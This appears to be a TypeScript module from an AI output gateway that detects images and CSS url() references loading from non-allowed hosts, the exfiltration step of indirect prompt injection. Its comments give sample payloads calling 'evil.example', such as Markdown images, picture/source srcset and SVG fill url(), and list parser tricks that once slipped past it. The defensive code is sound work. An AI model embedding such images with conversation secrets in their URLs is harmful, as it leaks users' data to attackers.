/**
 * Images an answer asks its reader's client to fetch from a host outside the allowed ones: a Markdown image
 * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`), an HTML `<img
 * src>` or `srcset`, or another element a page fetches as it loads (FETCHED_BY), or a CSS `url()` in a
 * `style` attribute, an SVG presentation attribute (`fill="url(…)"`) or a `<style>` (css-fetches.ts). A host that renders the answer fetches it at once, no click needed, so a model led to put
 * the conversation's secrets into its URL sends them to that host: the exfiltration step of an indirect
 * prompt injection. Before 2026-12-06 such an image passed every action.
 * An image in Markdown's code (a fenced block, a code span: markdown-code.ts) is shown as written and
 * fetches nothing, as markup there hides nothing (hidden-markup.ts); before 2026-12-06 it was found.
 */
import { cssFetches } from './css-fetches.js';
import { decodeReferences } from './html-references.js';
import { markdownCode, type CodeSpans } from './markdown-code.js';
import { someAttribute } from './tag-attributes.js';

/** An inline Markdown image: group 1 its URL (in <…> or bare). */
const INLINE = /!\[(?:[^\][]|\[[^\][]*\])*\]\(\s*(?:<([^<>\n]*)>|([^\s()]+(?:\([^\s()]*\)[^\s()]*)*))(?:\s+(?:"[^"]*"|'[^']*'|\([^)]*\)))?\s*\)/g;
/**
 * An HTML image's tag, group 1 its attributes, read as hidden-markup.ts reads a tag's: a quoted value to
 * its closing quote, so `<img alt="a>b" src=…>` is one tag (before 2026-12-06 it was no image).
 */
const IMG = /<(img|source|video|audio|track|input|image|feimage|iframe|embed|object|link|body|table|thead|tbody|tfoot|tr|td|th)(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/gi;
/** Only text with one of these tags can hold such an element. */
const FETCHING = /<(?:img|source|video|audio|track|input|image|feimage|iframe|embed|object|link|body|table|thead|tbody|tfoot|tr|td|th)[\s/>]/i;
/**
 * Which of those attributes each element is fetched by as the page loads, no click needed: a <picture>'s or a
 * media element's <source>, a video's poster, a media element's or a track's src, an <input type="image">,
 * SVG's <image href>, a frame, an embed, an object's data. Before 2026-12-06 only <img> was read, and
 * `<picture><source srcset="https://evil.example/?d=…">` passed.
 */
const FETCHED_BY: Readonly<Record<string, RegExp>> = {
  img: /^(?:src|srcset)$/,
  source: /^(?:src|srcset)$/,
  video: /^(?:src|poster)$/,
  audio: /^src$/,
  track: /^src$/,
  input: /^src$/,
  image: /^(?:href|xlink:href)$/,
  feimage: /^(?:href|xlink:href)$/,
  iframe: /^src$/,
  embed: /^src$/,
  object: /^data$/,
  link: /^href$/,
  body: /^background$/,
  table: /^background$/,
  thead: /^background$/,
  tbody: /^background$/,
  tfoot: /^background$/,
  tr: /^background$/,
  td: /^background$/,
  th: /^background$/,
};
/**
 * The `rel` of a <link> a page fetches as it loads: a style sheet, an icon, a manifest, a preload or prefetch
 * (a preconnect or DNS prefetch reaches the host too, its name alone telling it what the URL says). A
 * <link rel="canonical"> or "alternate" is fetched by no one. Before 2026-12-07 no <link>, no `background`
 * attribute (of a body, table, row or cell) and no SVG <feImage> was read.
 */
const FETCHING_REL = /(?:^|\s)(?:stylesheet|icon|apple-touch-icon|manifest|preload|modulepreload|prefetch|prerender|preconnect|dns-prefetch)(?!\S)/i;

/** An <input>'s `type` that has it fetch its src (an image button), as the browser matches it: case aside. */
const IMAGE_TYPE = /^\s*image\s*$/i;
/**
 * Any opening tag, read as IMG reads it: group 1 its name, 2 its attributes. Looked for only in text that
 * STYLING finds, for a `style` attribute (any element's), an SVG presentation attribute (URL_PRESENTATION) or a <style> element.
 */
const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/g;
const STYLING = /<style[\s/>]|[\s/"'](?:style|fill|stroke|filter|mask|clip-path|marker(?:-start|-mid|-end)?|cursor)\s*=/i;
/**
 * SVG's presentation attributes whose value may be a url() (a paint server, a filter, a mask, a clip path, a
 * marker, a cursor): each is the CSS property of its name, whose url() a style is found for (css-fetches.ts).
 * Before 2026-12-07 `style="fill:url(https://evil.example/…)"` was found and `fill="url(https://evil.example/…)"` was not.
 */
const URL_PRESENTATION = new Set(['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker', 'marker-start', 'marker-mid', 'marker-end', 'cursor']);
const isStyled = (name: string): boolean => name === 'style' || URL_PRESENTATION.has(name);
/** Where a <style>'s text ends (raw text: no other tag inside counts). */
const STYLE_END = /<\/style[\s/>]/gi;
/** A base the checks resolve against, of either scheme (a host page's may be http or https): its own host is no other. */
const BASE_HOST = 'base.invalid';
const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
/** A reference image (`![x][r]`, `![r][]`, `![r]`): group 1 the label or text. */
const REFERENCE = /!\[((?:[^\][]|\[[^\][]*\])*)\](?:\[([^\][]*)\])?(?!\()/g;
/** A link reference definition on a line of its own: group 1 its label, group 2 its URL. */
const DEFINITION = /^ {0,3}\[([^\][]+)\]:[ \t]*\n?[ \t]*<?([^\s<>]+)>?.*$/gm;

/**
 * Whether `url` is fetched from a host not allowed: absolute http(s) or scheme-relative (`//host`);
 * `data:` and relative URLs reach no other host. `allowed`: hosts as written (`img.example.com`), or a
 * domain's hosts (`*.example.com`), or `*` for any.
 */
export function outsideImage(url: string, allowed: readonly string[]): boolean {
  // As a browser reads it: references decoded (an attribute's, a Markdown destination's), tabs and line
  // breaks removed, then parsed by the URL standard (backslashes as slashes, `http:host` without them).
  // Tested for "http(s)://" and "//" alone, `http:evil.example/…`, `\\evil.example/…` and `ht\ttps://…`
  // were relative URLs, left, before 2026-12-06, and fetched from evil.example.
  const u = decodeReferences(url).replace(/[\t\n\r]/g, '');
  // A path with no scheme and no leading slash (`img/a.png`, a srcset's `2x`) stays on the page's host: no parse.
  if (!u.includes(':') && !/^[\x00-\x20]*[\\/]/.test(u)) return false;
  for (const base of BASES) {
    let parsed: URL;
    try {
      parsed = new URL(u, base);
    } catch {
      return /^\s*(?:https?:|[\\/]{2})/i.test(u); // absolute, and not a URL the gateway can read: a renderer may still fetch it
    }
    if ((parsed.protocol === 'http:' || parsed.protocol === 'https:') && parsed.hostname !== BASE_HOST && !allowedHost(parsed.hostname, allowed)) return true;
  }
  return false;
}

function allowedHost(host: string, allowed: readonly string[]): boolean {
  for (const a of allowed) {
    if (a === '*' || a === host) return true;
    if (a.startsWith('*.') && host.endsWith(a.slice(1))) return true;
  }
  return false;
}

const isType = (name: string): boolean => name === 'type';
const isRel = (name: string): boolean => name === 'rel';
const imageType = (_name: string, value: string): boolean => IMAGE_TYPE.test(value);
/** A <link>'s `rel` naming something fetched as the page loads (any `rel` of it: more than a browser applies, never less). */
const fetchingRel = (_name: string, value: string): boolean => FETCHING_REL.test(value);

/**
 * Whether an element's attributes have it fetched from a host not allowed: its `src` (or FETCHED_BY's), or
 * any candidate of its `srcset`. Its real attributes only (tag-attributes.ts): before 2026-12-07 a `src=`
 * inside another attribute's value (`title="x src=https://…"`) was read, and strip cut an image that fetched nothing from there.
 */
function outsideImg(tag: string, attributes: string, allowed: readonly string[]): boolean {
  const fetchedBy = FETCHED_BY[tag.toLowerCase()]!;
  // An <input> fetches its src only as an image button.
  if (fetchedBy === FETCHED_BY.input && !someAttribute(attributes, isType, imageType)) return false;
  if (fetchedBy === FETCHED_BY.link && !someAttribute(attributes, isRel, fetchingRel)) return false;
  return someAttribute(
    attributes,
    (name) => fetchedBy.test(name),
    // A srcset's candidates: URLs and their descriptors (`2x`, `100w`, relative, so never outside).
    (name, value) => (name !== 'srcset' ? outsideImage(value, allowed) : value.split(/[\s,]+/).some((u) => outsideImage(u, allowed))),
  );
}

/** Only text with one of these can hold an image. */
export function mayHoldImage(s: string): boolean {
  return s.includes('![') || (s.includes('<') && (FETCHING.test(s) || STYLING.test(s)));
}

/**
 * The spans of `s`'s styles that fetch from outside (cssFetches): a tag whose `style` or presentation attribute does, and a
 * <style> element whose text does, with its text (unclosed, to the end of `s`: a browser reads all after it
 * as its CSS, and with only its tag taken out what follows would be read again as HTML).
 */
function outsideStyles(s: string, allowed: readonly string[], shownAsCode: (at: number) => boolean, spans: Array<[number, number]>): void {
  const outside = (url: string): boolean => outsideImage(url, allowed);
  TAG.lastIndex = 0;
  for (let m = TAG.exec(s); m !== null; m = TAG.exec(s)) {
    const at = m.index;
    if (m[1]!.length === 5 && m[1]!.toLowerCase() === 'style' && !shownAsCode(at)) {
      const after = at + m[0].length;
      STYLE_END.lastIndex = after;
      const close = STYLE_END.exec(s);
      const end = close === null ? s.length : s.indexOf('>', close.index) + 1 || s.length;
      if (cssFetches(s.slice(after, close === null ? s.length : close.index), outside)) spans.push([at, end]);
      TAG.lastIndex = end; // raw text: no tag inside it is one
      continue;
    }
    // Every `style` attribute (a browser keeps the first: more, never less) and presentation attribute, not a `style=` inside another's value.
    if (someAttribute(m[2]!, isStyled, (_name, css) => cssFetches(css, outside)) && !shownAsCode(at)) spans.push([at, at + m[0].length]);
  }
}

/**
 * The [start, end) spans of the images from outside hosts in `s`, in order, not overlapping; undefined when
 * none. `html`: `s` is declared HTML or XML, where Markdown's code is no code (its <img> is fetched).
 */
export function outsideImages(s: string, allowed: readonly string[], html = false): Array<[number, number]> | undefined {
  // Found only once something looks like an image (most text with "![" or "<img" has none from outside).
  let code: CodeSpans | undefined;
  const shownAsCode = (at: number): boolean => within((code ??= html || !(s.includes('`') || s.includes('~~~')) ? [] : markdownCode(s)), at);
  const spans: Array<[number, number]> = [];
  for (const m of s.matchAll(INLINE)) if (outsideImage(m[1] ?? m[2] ?? '', allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
  for (const m of s.matchAll(IMG)) if (outsideImg(m[1]!, m[2]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
  if (STYLING.test(s)) outsideStyles(s, allowed, shownAsCode, spans);
  const labels = new Set<string>();
  for (const m of s.matchAll(REFERENCE)) if (!shownAsCode(m.index)) labels.add(label(m[2] || m[1]!));
  if (labels.size > 0) {
    for (const m of s.matchAll(DEFINITION)) if (labels.has(label(m[1]!)) && outsideImage(m[2]!, allowed) && !shownAsCode(m.index)) spans.push([m.index, m.index + m[0].length]);
  }
  if (spans.length === 0) return undefined;
  spans.sort((a, b) => a[0] - b[0]);
  const out: Array<[number, number]> = [];
  for (const span of spans) {
    const last = out[out.length - 1];
    if (last !== undefined && span[0] < last[1]) last[1] = Math.max(last[1], span[1]);
    else out.push(span);
  }
  return out;
}

/** Whether `at` lies in one of `code`'s spans (in order, not overlapping): a binary search. */
function within(code: CodeSpans, at: number): boolean {
  let lo = 0;
  let hi = code.length;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (code[mid]![0] <= at) lo = mid + 1;
    else hi = mid;
  }
  return lo > 0 && at < code[lo - 1]![1];
}

/** A reference label as Markdown matches it: case-insensitive, whitespace collapsed. */
function label(s: string): string {
  return s.trim().replace(/\s+/g, ' ').toLowerCase();
}
